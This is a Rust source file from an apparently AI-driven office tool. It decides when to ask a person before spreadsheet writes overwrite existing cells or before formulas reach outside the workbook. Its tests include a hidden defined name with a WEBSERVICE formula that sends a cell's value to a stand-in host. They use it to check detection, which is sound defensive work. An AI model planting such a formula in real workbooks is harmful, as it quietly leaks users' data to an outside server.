//! What an operation touches: the read that shows it, the place and count for the list of changes, and the question for a
//! person.

use deskhand_core::tool::{Ask, AskReason};
use deskhand_formula::risk;
use deskhand_protocol::operations::answer::{
    DeckContent, DefinedName, RangeContent, SlideContent, WorkbookContent,
};
use deskhand_protocol::operations::deck::{DeckInfo, SlideExport, SlideRead};
use deskhand_protocol::operations::workbook::{RangeFacet, RangeRead, RangeWrite, WorkbookInfo};
use deskhand_protocol::operations::{
    Address, Answer, Area, CellValue, DeckAnswer, DeckOperation, Effect, Operation, Refusal, WorkbookAnswer,
    WorkbookOperation,
};
use deskhand_protocol::permission::{BeforeAfter, RiskNote};

use crate::grid::{cell, intended, place, same, shown, written_area};

/// Rows that a question shows at the most.
pub(crate) const MAX_ROWS: usize = 200;
/// Characters of a content that a row shows.
const MAX_SHOWN: usize = 1_000;
/// Risk notes that a question shows at the most.
pub(crate) const MAX_RISKS: usize = 20;

/// The read whose answer is the way back of an operation on a range, and the area it covers.
pub(crate) fn range_to_keep(
    operation: &WorkbookOperation,
) -> Result<Option<(String, Area, Operation)>, Refusal> {
    use RangeFacet::{Formats, Formulas, NumberFormats, Values};
    let (place, what) = match operation {
        WorkbookOperation::RangeWrite(write) => (written_area(write)?, vec![Values, Formulas]),
        WorkbookOperation::RangeClear(clear) => (place(&clear.range)?, vec![Values, Formulas]),
        WorkbookOperation::RangeFormatting(format) => (
            place(&format.range)?,
            vec![Values, Formulas, NumberFormats, Formats],
        ),
        _ => return Ok(None),
    };
    let (sheet, area) = place;
    Ok(Some((sheet.clone(), area, read_of(&sheet, area, what))))
}

/// A read of a whole area.
pub(crate) fn read_of(sheet: &str, area: Area, what: Vec<RangeFacet>) -> Operation {
    let range = Address::on(sheet, area).to_string();
    Operation::Workbook(WorkbookOperation::RangeRead(RangeRead {
        range,
        what,
        max_rows: Some(area.rows()),
    }))
}

/// The slide that an operation changes; none where it reads, adds a slide, or is about the whole deck.
pub(crate) fn slide_of(operation: &DeckOperation) -> Option<String> {
    let row = operation.definition();
    let adds_slide = row.effect == Effect::Add && row.name.starts_with("slide.");
    if row.effect == Effect::Read || adds_slide {
        return None;
    }
    operation.target().strip_prefix("slide:").map(str::to_owned)
}

/// The slide that an operation adds.
pub(crate) fn added_slide_of(operation: &DeckOperation) -> Option<String> {
    let row = operation.definition();
    let adds_slide = row.effect == Effect::Add && row.name.starts_with("slide.");
    adds_slide
        .then(|| operation.target().strip_prefix("slide:").map(str::to_owned))
        .flatten()
}

/// Shorthands for the reads that this room makes by itself.
pub(crate) fn workbook_info() -> Operation {
    Operation::Workbook(WorkbookOperation::Info(WorkbookInfo {}))
}

/// `deck.info`.
pub(crate) fn deck_info() -> Operation {
    Operation::Deck(DeckOperation::Info(DeckInfo {}))
}

/// `slide.read`.
pub(crate) fn slide_read(slide: &str) -> Operation {
    Operation::Deck(DeckOperation::SlideRead(SlideRead {
        slide: slide.to_owned(),
        runs: false,
    }))
}

/// `slide.export`.
pub(crate) fn slide_export(slide: &str) -> Operation {
    Operation::Deck(DeckOperation::SlideExport(SlideExport {
        slide: slide.to_owned(),
    }))
}

/// Takes a range out of an answer.
pub(crate) fn range_in(answer: Answer) -> Option<RangeContent> {
    match answer {
        Answer::Workbook(WorkbookAnswer::RangeRead(content)) => Some(content),
        _ => None,
    }
}

/// Takes a workbook's content out of an answer.
pub(crate) fn workbook_in(answer: Answer) -> Option<WorkbookContent> {
    match answer {
        Answer::Workbook(WorkbookAnswer::Info(content)) => Some(content),
        _ => None,
    }
}

/// Takes a deck's content out of an answer.
pub(crate) fn deck_in(answer: Answer) -> Option<DeckContent> {
    match answer {
        Answer::Deck(DeckAnswer::Info(content)) => Some(content),
        _ => None,
    }
}

/// Takes a slide out of an answer.
pub(crate) fn slide_in(answer: Answer) -> Option<SlideContent> {
    match answer {
        Answer::Deck(
            DeckAnswer::SlideRead(content)
            | DeckAnswer::SlideAdd(content)
            | DeckAnswer::SlideDuplicate(content)
            | DeckAnswer::SlideFromTemplate(content)
            | DeckAnswer::SlideReplace(content),
        ) => Some(content),
        _ => None,
    }
}

/// What a defined name refers to, in any case and scope: of several by one name all count, joined as a formula would.
pub(crate) fn named(workbook: &WorkbookContent) -> impl Fn(&str) -> Option<String> {
    |wanted| {
        let wanted = wanted.to_lowercase();
        let of_it = |name: &&DefinedName| name.name.to_lowercase() == wanted;
        let meanings: Vec<&str> = workbook
            .names
            .iter()
            .filter(of_it)
            .map(|name| name.refers_to.as_str())
            .collect();
        (!meanings.is_empty()).then(|| meanings.join(","))
    }
}

/// The question for a write, when cells that are not empty would change or a formula reaches outside, through the
/// `names` of its workbook or by itself. `own` tells whether a cell still holds what this session wrote there: that is
/// nobody's work to lose.
pub(crate) fn ask_write(
    sheet: &str,
    area: Area,
    write: &RangeWrite,
    names: &dyn Fn(&str) -> Option<String>,
    before: &RangeContent,
    own: &dyn Fn(u32, u32, &CellValue) -> bool,
) -> Option<Ask> {
    let mut rows = Vec::new();
    let mut risks = Vec::new();
    let mut total = 0u32;
    for (row, line) in write.cells.iter().enumerate() {
        for (column, input) in line.iter().enumerate() {
            let Some(after) = intended(input) else { continue };
            let now = cell(before.formulas.as_ref(), row, column);
            let at = Area::cell(area.top + row as u32, area.left + column as u32);
            if let Some(reason) = input
                .formula()
                .and_then(|formula| risk::outside_reach_with(formula, names))
                && risks.len() < MAX_RISKS
            {
                risks.push(RiskNote {
                    cells: at.to_string(),
                    reach: reason.to_string(),
                    rule: OUTSIDE_RULE.to_owned(),
                });
            }
            let taken = !same(now, &CellValue::Empty);
            if taken && !same(now, &after) && !own(at.top, at.left, now) {
                total += 1;
                if rows.len() < MAX_ROWS {
                    let value = cell(before.values.as_ref(), row, column);
                    rows.push(line_of(at, (row, column), before, value, &after));
                }
            }
        }
    }
    let reason = match (risks.is_empty(), total) {
        (true, 0) => return None,
        (true, _) => AskReason::Overwrites,
        (false, _) => AskReason::ReachesOutside,
    };
    let question = match total {
        0 => format!("Write formulas that reach outside to {sheet}?"),
        1 => format!("Overwrite 1 cell on {sheet}?"),
        count => format!("Overwrite {count} cells on {sheet}?"),
    };
    let scope = format!("{}. The other cells stay as they are.", Address::on(sheet, area));
    Some(Ask {
        reason,
        question,
        scope,
        rows,
        total,
        risks,
    })
}

/// A content as a row of a question holds it: all rows together must fit into one event of the log.
pub(crate) fn short(text: String) -> String {
    if text.chars().count() <= MAX_SHOWN {
        text
    } else {
        text.chars().take(MAX_SHOWN).chain("…".chars()).collect()
    }
}

/// The rule in the note about formulas that reach outside.
pub(crate) const OUTSIDE_RULE: &str = "Formulas that reach outside this workbook ask every time.";

fn line_of(
    at: Area,
    (row, column): (usize, usize),
    before: &RangeContent,
    now: &CellValue,
    after: &CellValue,
) -> BeforeAfter {
    // The first column of a block usually names its rows.
    let label = match cell(before.values.as_ref(), row, 0) {
        CellValue::Text(text) if column > 0 && !text.is_empty() => Some(text.chars().take(40).collect()),
        _ => None,
    };
    let after = shown(after);
    BeforeAfter {
        cell: at.to_string(),
        label,
        now: short(shown(now)),
        formula: after.starts_with('='),
        after: short(after),
    }
}

/// The question before cells are emptied or removed, when there is something in them that this session did not write.
pub(crate) fn ask_lost(
    question: impl Fn(u32) -> String,
    scope: String,
    reason: AskReason,
    area: Area,
    before: &RangeContent,
    own: &dyn Fn(u32, u32, &CellValue) -> bool,
) -> Option<Ask> {
    let mut rows = Vec::new();
    let mut total = 0u32;
    for row in 0..area.rows() as usize {
        for column in 0..area.columns() as usize {
            let now = cell(before.formulas.as_ref(), row, column);
            let at = Area::cell(area.top + row as u32, area.left + column as u32);
            if same(now, &CellValue::Empty) || own(at.top, at.left, now) {
                continue;
            }
            total += 1;
            // A change of looks is asked about with its count alone: the contents stay.
            if reason != AskReason::Reformats && rows.len() < MAX_ROWS {
                let value = cell(before.values.as_ref(), row, column);
                rows.push(line_of(at, (row, column), before, value, &CellValue::Empty));
            }
        }
    }
    (total > 0).then(|| Ask {
        reason,
        question: question(total),
        scope,
        rows,
        total,
        risks: Vec::new(),
    })
}

/// What an operation did, in a few words for the list of changes.
pub(crate) fn title_of(operation: &Operation) -> String {
    let named =
        |title: &Option<String>, name: &String| format!("Chart {} added", title.as_ref().unwrap_or(name));
    match operation {
        Operation::Workbook(WorkbookOperation::RangeWrite(write))
            if write
                .cells
                .iter()
                .flatten()
                .any(|input| input.formula().is_some()) =>
        {
            return operation
                .definition()
                .done
                .replace("Values", "Formulas")
                .replace("{}", cells_of(operation).as_str());
        }
        Operation::Workbook(WorkbookOperation::TableAdd(params)) => {
            return format!("Table {} added", params.name);
        }
        Operation::Workbook(WorkbookOperation::ChartAdd(params)) => {
            return named(&params.title, &params.name);
        }
        Operation::Deck(DeckOperation::ChartAdd(params)) => return named(&params.title, &params.name),
        _ => {}
    }
    let place = match cells_of(operation) {
        whole if whole.is_empty() => "the document".to_owned(),
        place => place,
    };
    operation.definition().done.replace("{}", &place)
}

/// The target without its sheet.
fn cells_of(operation: &Operation) -> String {
    let target = operation.target();
    let cells = target.rsplit('!').next().unwrap_or_default();
    // A sheet's name alone is quoted in an address, not in a sentence.
    match Address::parse(cells) {
        Ok(Address {
            sheet: Some(sheet),
            area: None,
        }) => sheet,
        _ => cells.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use deskhand_protocol::operations::CellInput;

    use super::*;

    fn ask(formula: &str, names: &[(&str, &str, bool)]) -> Option<Ask> {
        let write = RangeWrite {
            range: "Data!A1".to_owned(),
            cells: vec![vec![CellInput::Text(formula.to_owned())]],
            sources: Vec::new(),
        };
        let defined = |(name, refers_to, hidden): &(&str, &str, bool)| DefinedName {
            name: (*name).to_owned(),
            refers_to: (*refers_to).to_owned(),
            hidden: *hidden,
        };
        let workbook = WorkbookContent {
            names: names.iter().map(defined).collect(),
            ..WorkbookContent::default()
        };
        let before = RangeContent::default();
        ask_write(
            "Data",
            Area::cell(0, 0),
            &write,
            &named(&workbook),
            &before,
            &|_, _, _| false,
        )
    }

    #[test]
    fn a_formula_that_reaches_outside_through_a_name_is_asked_about() {
        let web = ("Rate", "WEBSERVICE(\"https://x.example/?\"&Data!$A$1)", false);
        let hidden = ("rate", "WEBSERVICE(\"https://x.example/\")", true);
        let harmless = ("Rate", "Data!$B$1", false);
        for names in [
            vec![web],
            vec![hidden],
            vec![harmless, hidden],
            vec![("Rate", "Inner", false), ("Inner", web.1, true)],
        ] {
            let asked = ask("=RATE*2", &names).unwrap_or_else(|| panic!("nobody is asked: {names:?}"));
            assert_eq!(
                (asked.reason, asked.risks.len()),
                (AskReason::ReachesOutside, 1),
                "{names:?}"
            );
        }
        assert_eq!(ask("=Rate*2", &[harmless]), None);
    }

    #[test]
    fn a_question_about_the_longest_texts_fits_into_an_event() {
        let long = CellValue::Text("\u{1}".repeat(32_767));
        let write = RangeWrite {
            range: "Data!A1".to_owned(),
            cells: vec![vec![CellInput::Text("y".repeat(32_767))]; 300],
            sources: Vec::new(),
        };
        let before = RangeContent {
            values: Some(vec![vec![long.clone()]; 300]),
            formulas: Some(vec![vec![long]; 300]),
            ..RangeContent::default()
        };
        let area = Area::of_size(0, 0, 300, 1).expect("an area");
        let asked =
            ask_write("Data", area, &write, &|_| None, &before, &|_, _, _| false).expect("a question");
        assert_eq!((asked.total, asked.rows.len()), (300, MAX_ROWS));
        let kept = serde_json::to_vec(&asked.rows).expect("JSON").len();
        assert!(kept < 3 << 20, "{kept}");
    }
}
